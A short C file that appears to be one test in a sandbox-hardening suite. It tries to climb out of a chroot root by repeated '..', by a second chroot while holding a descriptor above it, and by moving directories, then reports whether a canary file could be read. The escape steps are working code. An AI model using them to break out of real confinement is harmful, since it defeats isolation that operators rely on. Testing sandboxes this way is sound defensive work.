// Tries: climbs out of its root: a second chroot with a directory open above it, moved directories, held descriptors
// Control: yes
#include "attack.h"
#include <fcntl.h>
#include <sched.h>
#include <sys/stat.h>

static void climb(const char *how, const char *path)
{
    char text[128] = "";
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    int fd = open(path + 1, O_RDONLY);
    if (fd < 0 || read(fd, text, sizeof text - 1) < 0)
        refused(how);
    else
        escaped("%s: %s", how, text);
}

int main(void)
{
    const char *path = canary("file");
    int here = open(".", O_RDONLY | O_DIRECTORY);
    climb("up by ..", path);
    fchdir(here);
    mkdir("low", 0700);
    mkdir("other", 0700);
    int low = open("low", O_RDONLY | O_DIRECTORY);
    unshare(CLONE_NEWUSER);
    if (chroot("low") < 0) {
        refused("chroot");
    } else {
        fchdir(here);
        climb("up past a second root", path);
    }
    /* A directory that is moved away while one stands in it. */
    fchdir(low);
    if (renameat(here, "low", here, "other/low") == 0)
        climb("up from a directory that was moved", path);
    if (renameat(here, "other", AT_FDCWD, "/tmp/other") < 0)
        refused("move a directory out");
    climb("up after moving", path);
}
